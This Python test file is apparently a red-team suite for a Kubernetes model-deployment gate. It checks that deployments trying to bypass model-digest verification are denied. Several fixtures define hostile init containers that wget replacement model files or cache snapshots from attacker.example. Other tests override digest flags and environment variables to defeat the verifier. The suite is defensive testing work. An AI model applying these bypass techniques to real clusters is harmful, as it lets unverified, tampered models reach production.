"""Red team: ways a deployer got a model past the evidence binding (issue 9) in production.

Each test is an object a deployer could submit, judged by the library Engine on the shipped
policies through the same adapters the webhook uses. Each asserts the control that must deny
it; a legitimate counterpart is still allowed, so a fix cannot simply deny everything.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from mlgate.engine import Engine
from mlgate.subjects import RequestInfo, subject_from_object
from mlgate.subjects.base import content_addressed
from mlgate.supplychain.modeldir import model_digest
from webhook_support import (
    ATTESTED_URI,
    MODELS_RO,
    POD_NAMESPACE,
    VERIFIER,
    credit_scorer_attestation,
    deployment_of,
    kserve_verified_policies,
    verifier_container,
)

REPO = Path(__file__).resolve().parents[1]
EXAMPLES = REPO / "examples"
MODEL = EXAMPLES / "models" / "credit-scorer"
KSERVE_SOURCE = "internal.serving.kserve.io/storage-initializer-sourceuri"
# As KServe's pod mutator injects them: the download volume, read-only in the server.
KSERVE_VOLUME = "kserve-provision-location"
KSERVE_MOUNT_RO = {"name": KSERVE_VOLUME, "mountPath": "/mnt/models", "readOnly": True}
RELEASE = RequestInfo(username="release-bot", groups=("mlops-release-managers",))
KSERVE = RequestInfo(username="system:serviceaccount:kserve:kserve-controller-manager")
OWNER = {
    "apiVersion": "serving.kserve.io/v1beta1",
    "kind": "InferenceService",
    "name": "credit",
    "uid": "1f0c6a52-3f7e-4c1a-9a51-0d3b0a4f2c11",
    "controller": True,
}


@pytest.fixture(scope="module")
def digest() -> str:
    return model_digest(MODEL)


def attestation(digest: str, uris: list[str]) -> str:
    """A governance attestation from the trusted promotion pipeline for these URIs."""
    return credit_scorer_attestation(digest, uris)


def evidence(digest: str, uri: str = ATTESTED_URI) -> dict[str, str]:
    return {
        "mlgate.io/model-digest": digest,
        "mlgate.io/signature": base64.b64encode((MODEL / "model.sig").read_bytes()).decode(),
        "mlgate.io/attestation": attestation(digest, [uri]),
    }


@pytest.fixture(scope="module")
def engine() -> Any:
    eng = Engine.default()
    yield eng
    eng.close()


@pytest.fixture(scope="module")
def kserve_engine(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Shipped policies with the verifying ClusterStorageContainer declared for s3://."""
    policies = kserve_verified_policies(tmp_path_factory.mktemp("redteam") / "policies")
    eng = Engine.from_path(policies)
    yield eng
    eng.close()


def deployment(
    annotations: dict[str, str],
    containers: list[dict[str, Any]],
    init: list[dict[str, Any]] | None = None,
    owner: dict[str, Any] | None = None,
) -> dict[str, Any]:
    spec: dict[str, Any] = {
        "containers": containers,
        "volumes": [{"name": "models", "emptyDir": {}}],
    }
    if init:
        spec["initContainers"] = init
    meta: dict[str, Any] = {"name": "credit-llm", "namespace": "ml-prod"}
    if owner:
        meta["ownerReferences"] = [owner]
    return deployment_of(meta, spec, annotations)


def vllm(uri: str) -> dict[str, Any]:
    # An ONNX server: on an LLM runtime the credit scorer's card would (rightly) also need
    # the Art. 50 disclosure it lacks (issue 10), which is not what these attacks test.
    return {
        "name": "vllm",
        "image": "registry.example/ml/onnx-server:1.4",
        "args": ["--model", uri],
    }


def served() -> dict[str, Any]:
    """The server reading the verified copy (the shape pod-start verification requires)."""
    return {**vllm("/models"), "volumeMounts": [dict(MODELS_RO)]}


def verifier(expect: str, **extra: Any) -> dict[str, Any]:
    return verifier_container(expect, **extra)


def decide(engine: Any, obj: dict[str, Any], info: RequestInfo = RELEASE) -> tuple[bool, set[str]]:
    subject = subject_from_object(obj, info)
    assert subject is not None, "the adapter must see the model"
    decision = engine.evaluate_subject(subject)
    return decision.allowed, {v.control for v in decision.violations}


# -- attack: `@sha256:` written onto a mutable URI ----------------------------------------
# s3://, https://, pvc:// keys may contain "@sha256:..." but the bytes behind them can still
# be replaced after approval: only oci/image digests and hf commits are content-addressed.


@pytest.mark.parametrize(
    "uri",
    [
        "s3://ml-models-prod/credit-scorer/0.9.2@{d}",
        "https://models.example.com/credit-scorer@{d}",
        "pvc://models/credit-scorer@{d}",
        "s3://ml-models-prod/credit-scorer?version=@{d}",
        "hf://org/credit-scorer@{d}",
    ],
)
def test_digest_suffix_on_a_mutable_uri_still_needs_pod_start_verification(
    engine: Any, digest: str, uri: str
) -> None:
    uri = uri.format(d=digest)
    assert content_addressed(uri) is False
    allowed, controls = decide(engine, deployment(evidence(digest, uri), [vllm(uri)]))
    assert not allowed and "SC-POD-START-VERIFY" in controls


def test_an_oci_digest_is_still_content_addressed(engine: Any, digest: str) -> None:
    uri = f"oci://registry.example.com/models/credit-scorer@{digest}"
    assert content_addressed(uri) is True
    assert decide(engine, deployment(evidence(digest, uri), [vllm(uri)])) == (True, set())


# -- attack: a verifier that does not gate the model server -------------------------------


def test_a_sidecar_verifier_does_not_gate_the_server(engine: Any, digest: str) -> None:
    """restartPolicy: Always makes an init container a sidecar: the server starts beside it,
    whether or not the check passes."""
    ok = deployment(evidence(digest), [served()], [verifier(digest)])
    assert decide(engine, ok) == (True, set())
    sidecar = verifier(digest, restartPolicy="Always")
    allowed, controls = decide(engine, deployment(evidence(digest), [served()], [sidecar]))
    assert not allowed and "SC-POD-START-VERIFY" in controls


def test_an_init_container_after_the_verifier_can_replace_the_bytes(
    engine: Any, digest: str
) -> None:
    swap = {
        "name": "swap",
        "image": "busybox:1.36",
        "command": ["sh", "-c", "wget -O /models/model.onnx http://attacker.example/m.onnx"],
        "volumeMounts": [{"name": "models", "mountPath": "/models"}],
    }
    obj = deployment(evidence(digest), [served()], [verifier(digest), swap])
    allowed, controls = decide(engine, obj)
    assert not allowed and "SC-POD-START-VERIFY" in controls
    fetch_then_verify = deployment(evidence(digest), [served()], [swap, verifier(digest)])
    assert decide(engine, fetch_then_verify) == (True, set())


# -- attack: claiming KServe's verifying storage initializer ------------------------------


def kserve_pod_template(digest: str, init: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    annotations = {**evidence(digest), KSERVE_SOURCE: ATTESTED_URI}
    server = {
        "name": "kserve-container",
        "image": "kserve/sklearnserver:v0.14.1",
        "args": ["--model_name=credit", "--model_dir=/mnt/models"],
        "volumeMounts": [KSERVE_MOUNT_RO],
    }
    obj = deployment(annotations, [server], init, owner=OWNER)
    obj["spec"]["template"]["spec"]["volumes"] = [{"name": KSERVE_VOLUME, "emptyDir": {}}]
    return obj


def test_kserve_controller_child_still_counts_as_verified(kserve_engine: Any, digest: str) -> None:
    assert decide(kserve_engine, kserve_pod_template(digest), KSERVE) == (True, set())


def test_a_deployer_cannot_claim_the_kserve_storage_initializer(
    kserve_engine: Any, digest: str
) -> None:
    """The source-URI annotation is KServe's; written by a person, nothing injects (or
    verifies) the download into /mnt/models."""
    allowed, controls = decide(kserve_engine, kserve_pod_template(digest), RELEASE)
    assert not allowed and "SC-POD-START-VERIFY" in controls


def test_an_own_storage_initializer_stops_kserve_injecting_the_verifier(
    kserve_engine: Any, digest: str
) -> None:
    """KServe does not inject its storage initializer when one is already there."""
    own = {
        "name": "storage-initializer",
        "image": "busybox:1.36",
        "command": ["sh", "-c", "wget -O /mnt/models/model.onnx http://attacker.example/m"],
    }
    allowed, controls = decide(kserve_engine, kserve_pod_template(digest, [own]), KSERVE)
    assert not allowed and "SC-POD-START-VERIFY" in controls


def test_a_pod_with_the_injected_verifying_initializer_is_allowed(
    kserve_engine: Any, digest: str
) -> None:
    """After KServe injected the verifying ClusterStorageContainer, the Pod shows it."""
    template = kserve_pod_template(digest)["spec"]["template"]
    injected = {
        "name": "storage-initializer",
        "image": VERIFIER,
        "args": [ATTESTED_URI, "/mnt/models"],
        "env": [
            {
                "name": "MLGATE_EXPECT_DIGEST",
                "valueFrom": {
                    "fieldRef": {"fieldPath": "metadata.annotations['mlgate.io/model-digest']"}
                },
            },
            POD_NAMESPACE,
        ],
        "volumeMounts": [{"name": KSERVE_VOLUME, "mountPath": "/mnt/models"}],
    }
    owner = {**OWNER, "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "credit-abc"}
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {**template["metadata"], "namespace": "ml-prod", "ownerReferences": [owner]},
        "spec": {**template["spec"], "initContainers": [injected]},
    }
    pod["metadata"]["name"] = "credit-abc-x1"
    rs_controller = RequestInfo(username="system:serviceaccount:kube-system:replicaset-controller")
    assert decide(kserve_engine, pod, rs_controller) == (True, set())
    pod["spec"]["initContainers"][0]["image"] = "busybox:1.36"
    allowed, controls = decide(kserve_engine, pod, rs_controller)
    assert not allowed and "SC-POD-START-VERIFY" in controls


# -- attack: the webhook reads one digest, `mlgate verify` checks another ------------------

OTHER = "sha256:" + "e" * 64  # the digest of the attacker's own (self-signed) model


def _verifier_args(digest: str, args: list[str], **extra: Any) -> dict[str, Any]:
    base = {k: v for k, v in verifier(digest).items() if k != "args"}
    return {**base, "args": args, **extra}


@pytest.mark.parametrize(
    "container",
    [
        # argparse: the last of a repeated flag wins
        lambda d: _verifier_args(
            d, ["--model-dir", "/models", "--expect-digest", d, "--expect-digest", OTHER]
        ),
        # argparse: an unambiguous prefix is the flag
        lambda d: _verifier_args(
            d, ["--model-dir", "/models", "--expect-digest", d, "--expect", OTHER]
        ),
        # --storage-uri: the $MLGATE_MODELS entry for it replaces the expected digest
        lambda d: _verifier_args(
            d,
            ["--model-dir", "/models", "--expect-digest", d, "--storage-uri", "s3://x/m"],
            env=[
                {"name": "MLGATE_MODELS", "value": json.dumps({"s3://x/m": {"digest": OTHER}})},
                POD_NAMESPACE,
            ],
        ),
        # the kubelet keeps the last of two env entries with one name; a ConfigMap's is unseen
        lambda d: _verifier_args(
            d,
            ["--model-dir", "/models"],
            env=[
                {"name": "MLGATE_EXPECT_DIGEST", "value": d},
                {
                    "name": "MLGATE_EXPECT_DIGEST",
                    "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}},
                },
                POD_NAMESPACE,
            ],
        ),
        # envFrom can supply $MLGATE_MODELS, which overrides the flag for --storage-uri
        lambda d: _verifier_args(
            d,
            ["--model-dir", "/models", "--expect-digest", d, "--storage-uri", "s3://x/m"],
            envFrom=[{"configMapRef": {"name": "attacker"}}],
        ),
        # the verifier image running something else, with the digest in its environment
        lambda d: _verifier_args(
            d,
            ["-c", "true"],
            command=["sh"],
            env=[{"name": "MLGATE_EXPECT_DIGEST", "value": d}, POD_NAMESPACE],
        ),
    ],
    ids=[
        "repeated-flag",
        "abbreviated-flag",
        "storage-uri-models",
        "env-override",
        "envfrom",
        "not-mlgate",
    ],
)
def test_the_webhook_reads_the_digest_the_verifier_checks(
    engine: Any, digest: str, container: Any
) -> None:
    obj = deployment(evidence(digest), [served()], [container(digest)])
    allowed, controls = decide(engine, obj)
    assert not allowed and "SC-POD-START-VERIFY" in controls


def test_the_digest_through_a_variable_and_the_entry_point_is_still_read(
    engine: Any, digest: str
) -> None:
    env = [{"name": "D", "value": digest}, POD_NAMESPACE]
    args = ["--model-dir", "/models", "--storage-uri", ATTESTED_URI, "--expect-digest=$(D)"]
    via_var = _verifier_args(digest, args, env=env)
    obj = deployment(evidence(digest), [served()], [via_var])
    assert decide(engine, obj) == (True, set())
    args = ["verify", "--model-dir", "/models", "--storage-uri", ATTESTED_URI,
            "--expect-digest", digest, "--policies", "/opt/mlgate/policies"]  # fmt: skip
    command = _verifier_args(digest, args, command=["mlgate"])
    obj = deployment(evidence(digest), [served()], [command])
    assert decide(engine, obj) == (True, set())


# -- attack: a pre-filled Hugging Face cache or a local directory of the same name --------
# `--revision <commit>` pins the download, but the client trusts its cache (and vLLM a
# local directory named like the repo) without hashing it: a volume that another container
# or a previous pod can fill makes the commit pin meaningless.

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def hf_deployment(digest: str, volume: dict[str, Any], poison: bool) -> dict[str, Any]:
    uri = f"hf://org/credit-scorer@{COMMIT}"
    server = {
        "name": "vllm",
        "image": "registry.example/ml/hf-server:1.4",  # not an LLM runtime: see vllm() above
        "args": ["--model", "org/credit-scorer", "--revision", COMMIT],
        "volumeMounts": [{"name": "cache", "mountPath": "/root/.cache/huggingface"}],
    }
    fill = {
        "name": "fill-cache",
        "image": "busybox:1.36",
        "command": ["sh", "-c", "wget -P /c/hub http://attacker.example/snapshot.tar"],
        "volumeMounts": [{"name": "cache", "mountPath": "/c"}],
    }
    obj = deployment(evidence(digest, uri), [server], [fill] if poison else None)
    obj["spec"]["template"]["spec"]["volumes"] = [{"name": "cache", **volume}]
    return obj


@pytest.mark.parametrize(
    ("volume", "poison"),
    [
        ({"emptyDir": {}}, True),
        ({"persistentVolumeClaim": {"claimName": "hf-cache"}}, False),
        ({"hostPath": {"path": "/var/cache/hf"}}, False),
    ],
    ids=["emptydir-filled-by-init", "pvc", "hostpath"],
)
def test_a_commit_pin_over_a_fillable_cache_is_not_content_addressed(
    engine: Any, digest: str, volume: dict[str, Any], poison: bool
) -> None:
    allowed, controls = decide(engine, hf_deployment(digest, volume, poison))
    assert not allowed and "SC-POD-START-VERIFY" in controls


def test_a_commit_pin_over_a_private_cache_is_content_addressed(engine: Any, digest: str) -> None:
    obj = hf_deployment(digest, {"emptyDir": {}}, poison=False)
    assert decide(engine, obj) == (True, set())
